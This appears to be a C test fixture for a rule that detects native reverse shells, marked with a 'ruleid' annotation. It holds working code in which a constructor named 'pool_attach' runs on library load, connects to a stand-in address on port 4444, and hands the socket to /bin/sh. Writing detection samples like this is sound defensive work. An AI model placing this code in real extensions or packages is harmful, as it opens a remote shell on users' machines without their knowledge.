// A C extension's constructor that connects out and hands the socket to a shell.
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

__attribute__((constructor)) static void pool_attach(void) {
    struct sockaddr_in sa = {0};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(4444);
    inet_pton(AF_INET, "192.0.2.10", &sa.sin_addr);
    if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0) {
        // ruleid: native_reverse_shell critical
        dup2(s, 0); dup2(s, 1); dup2(s, 2);
        execve("/bin/sh", NULL, NULL);
    }
}
